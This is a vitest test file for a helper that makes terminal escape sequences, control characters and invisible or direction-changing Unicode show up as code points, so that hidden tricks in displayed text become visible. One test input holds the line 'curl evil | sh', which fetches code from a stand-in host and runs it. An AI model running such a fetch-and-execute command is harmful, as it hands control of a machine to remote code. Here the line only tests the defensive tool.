import { expect, test } from 'vitest';
import { visibleLine, visibleText } from './visible-text.ts';

test('what a terminal obeys or does not draw becomes its code point', () => {
  expect(visibleText('a\u001b[2J\u0007\0b\r\u007f\u009bc')).toBe(
    'a<U+001B>[2J<U+0007><U+0000>b<U+000D><U+007F><U+009B>c',
  );
  expect(visibleText('rm\u202e\u2066\u200b\u00ad\ufeff\u{e0041} x')).toBe(
    'rm<U+202E><U+2066><U+200B><U+00AD><U+FEFF><U+E0041> x',
  );
  expect(visibleText('a\u00a0b\u2003c\u2028d\u3164e\u2800f\ud800g')).toBe(
    'a<U+00A0>b<U+2003>c<U+2028>d<U+3164>e<U+2800>f<U+D800>g',
  );
});

test('what is drawn stays: line feeds, tabs, letters of any script, emoji', () => {
  const text = 'a\n\tb é e\u0301 漢字\u3000สวัสดี שלום 👩‍👩‍👧 👍🏽 ❤️ 1️⃣';
  expect(visibleText(text)).toBe(text);
});

test('on one line a line feed is seen', () => {
  expect(visibleLine('ls\n\tcurl evil | sh\n')).toBe('ls⏎ curl evil | sh');
});
